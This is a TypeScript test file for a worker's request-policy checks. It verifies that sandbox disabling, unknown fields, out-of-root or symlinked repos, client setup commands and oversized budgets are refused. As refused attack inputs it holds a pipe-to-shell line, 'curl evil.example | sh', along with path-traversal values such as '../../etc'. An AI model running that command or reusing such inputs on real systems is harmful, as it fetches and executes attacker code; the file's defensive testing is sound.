import { mkdirSync, mkdtempSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_RUN_CEILINGS } from '../../../src/policy/run-ceilings.js';
import { checkRunRequest, operatorConfigFromEnv } from '../../../src/policy/run-request.js';
import { testInput } from '../../helpers/run-input.js';

const request = (over = {}) => testInput({ repo: '/tmp/r', model: 'scripted:/tmp/s.json', ...over });
const strictWorker = operatorConfigFromEnv({});

describe('a run request is bounded by the worker', () => {
  it('attack: a client asks for sandbox "off" from a worker whose operator did not allow it', () => {
    expect(() => checkRunRequest(request({ sandbox: 'off' }), strictWorker)).toThrow(/sandbox "off" is not allowed on this worker.*--allow-sandbox-off/);
  });

  it('control: the same request on a worker started with KILN_ALLOW_SANDBOX_OFF=1, and bwrap anywhere', () => {
    expect(checkRunRequest(request({ sandbox: 'off' }), operatorConfigFromEnv({ KILN_ALLOW_SANDBOX_OFF: '1' })).sandbox).toBe('off');
    expect(checkRunRequest(request(), strictWorker).sandbox).toBe('bwrap');
    // only the exact opt-in counts
    expect(operatorConfigFromEnv({ KILN_ALLOW_SANDBOX_OFF: 'yes' }).allowSandboxOff).toBe(false);
  });

  it('attack: unknown fields (a future "trusted": true) are refused, not ignored', () => {
    expect(() => checkRunRequest({ ...request(), trusted: true, hostSetup: ['id'] }, strictWorker)).toThrow(/unknown fields trusted, hostSetup/);
    expect(() => checkRunRequest({ ...request(), budgets: { ...request().budgets, unlimited: true } }, strictWorker)).toThrow(
      /budgets: unknown field unlimited/,
    );
  });

  it('malformed values are refused with the field named', () => {
    expect(() => checkRunRequest({ ...request(), runId: '../../etc' }, strictWorker)).toThrow(/runId/);
    expect(() => checkRunRequest({ ...request(), approvalMode: 'yolo' }, strictWorker)).toThrow(/approvalMode/);
    expect(() => checkRunRequest({ ...request(), checks: [''] }, strictWorker)).toThrow(/checks\.0/);
  });
});

describe("the worker's operator bounds repos and a client's setup", () => {
  const served = mkdtempSync(join(tmpdir(), 'kiln-served-'));
  const other = mkdtempSync(join(tmpdir(), 'kiln-other-'));
  mkdirSync(join(served, 'app'));
  mkdirSync(join(other, 'secret-repo'));
  symlinkSync(join(other, 'secret-repo'), join(served, 'link'));
  const bounded = operatorConfigFromEnv({ KILN_REPO_ROOTS: `${served}:/nonexistent-root` });

  it('attack: a repo outside KILN_REPO_ROOTS is refused, also through .. or a symlink under a root', () => {
    for (const repo of [join(other, 'secret-repo'), join(served, '..', other.split('/').pop()!, 'secret-repo'), join(served, 'link'), '/etc']) {
      expect(() => checkRunRequest(request({ repo }), bounded), repo).toThrow(/repo .* is outside the repositories this worker serves \(KILN_REPO_ROOTS=/);
    }
  });

  it('control: a repo under a root (or the root itself) passes; with KILN_REPO_ROOTS unset, any repo does', () => {
    expect(checkRunRequest(request({ repo: join(served, 'app') }), bounded).repo).toBe(join(served, 'app'));
    expect(checkRunRequest(request({ repo: served }), bounded).repo).toBe(served);
    expect(checkRunRequest(request({ repo: join(other, 'secret-repo') }), strictWorker).repo).toBe(join(other, 'secret-repo'));
  });

  it("attack: a client's own setup commands on a worker with KILN_ALLOW_CLIENT_SETUP=0 are refused", () => {
    const noSetup = operatorConfigFromEnv({ KILN_ALLOW_CLIENT_SETUP: '0' });
    expect(() => checkRunRequest(request({ setup: ['curl evil.example | sh'] }), noSetup)).toThrow(
      /setup commands from the client \(--setup\) are not allowed on this worker \(KILN_ALLOW_CLIENT_SETUP=0\)/,
    );
  });

  it('control: no setup passes there, and setup passes where the operator did not refuse it', () => {
    const noSetup = operatorConfigFromEnv({ KILN_ALLOW_CLIENT_SETUP: '0' });
    expect(checkRunRequest(request({ setup: [] }), noSetup).setup).toEqual([]);
    expect(checkRunRequest(request({ setup: ['npm ci'] }), strictWorker).setup).toEqual(['npm ci']);
    expect(checkRunRequest(request({ setup: ['npm ci'] }), operatorConfigFromEnv({ KILN_ALLOW_CLIENT_SETUP: '1' })).setup).toEqual(['npm ci']);
  });

  it('bad operator settings are named, not guessed at', () => {
    expect(() => operatorConfigFromEnv({ KILN_REPO_ROOTS: 'src/repos' })).toThrow(/KILN_REPO_ROOTS: "src\/repos" is not an absolute path/);
    expect(() => operatorConfigFromEnv({ KILN_ALLOW_CLIENT_SETUP: 'no' })).toThrow(/KILN_ALLOW_CLIENT_SETUP: expected 0 or 1, got "no"/);
  });
});

describe("the worker's operator caps budgets and timeouts", () => {
  it('attack: a request straight through Temporal for 1e9 dollars, 1e9 turns and a 1e12 ms command timeout is refused, each field named', () => {
    const r = request();
    const huge = { ...r, budgets: { ...r.budgets, maxUsd: 1e9, maxTurns: 1e9 }, commandTimeoutMs: 1e12 };
    let message = '';
    try {
      checkRunRequest(huge, strictWorker);
    } catch (e) {
      message = (e as Error).message;
    }
    expect(message).toMatch(/^run input refused by the worker: /);
    expect(message).toContain(`budgets.maxUsd 1000000000 is above this worker's ceiling ${DEFAULT_RUN_CEILINGS['budgets.maxUsd']}`);
    expect(message).toContain('budgets.maxTurns 1000000000');
    expect(message).toContain('commandTimeoutMs 1000000000000');
    expect(message).toContain('KILN_RUN_CEILINGS');
  });

  it('control: the client defaults, and a request at the ceiling, are honoured', () => {
    expect(checkRunRequest(request(), strictWorker).budgets).toEqual(request().budgets);
    const r = request();
    const atCeiling = {
      ...r,
      budgets: { ...r.budgets, maxUsd: DEFAULT_RUN_CEILINGS['budgets.maxUsd'] },
      commandTimeoutMs: DEFAULT_RUN_CEILINGS.commandTimeoutMs,
    };
    expect(checkRunRequest(atCeiling, strictWorker).commandTimeoutMs).toBe(DEFAULT_RUN_CEILINGS.commandTimeoutMs);
  });

  it('the operator sets ceilings with KILN_RUN_CEILINGS; a misspelt field or a bad value stops the worker at start', () => {
    const tight = operatorConfigFromEnv({ KILN_RUN_CEILINGS: 'budgets.maxUsd=5, commandTimeoutMs=60000' });
    const r = request();
    expect(() => checkRunRequest({ ...r, budgets: { ...r.budgets, maxUsd: 6 } }, tight)).toThrow(/budgets\.maxUsd 6 is above this worker's ceiling 5/);
    expect(checkRunRequest({ ...r, budgets: { ...r.budgets, maxUsd: 5 }, commandTimeoutMs: 60_000 }, tight).budgets.maxUsd).toBe(5);
    // fields it left out keep their default
    expect(tight.ceilings?.['budgets.maxTurns']).toBe(DEFAULT_RUN_CEILINGS['budgets.maxTurns']);
    expect(() => operatorConfigFromEnv({ KILN_RUN_CEILINGS: 'maxDollars=5' })).toThrow(/unknown field maxDollars/);
    expect(() => operatorConfigFromEnv({ KILN_RUN_CEILINGS: 'budgets.maxUsd=-1' })).toThrow(/budgets\.maxUsd must be a positive number/);
    expect(() => operatorConfigFromEnv({ KILN_RUN_CEILINGS: 'budgets.maxUsd' })).toThrow(/is not field=value/);
  });
});
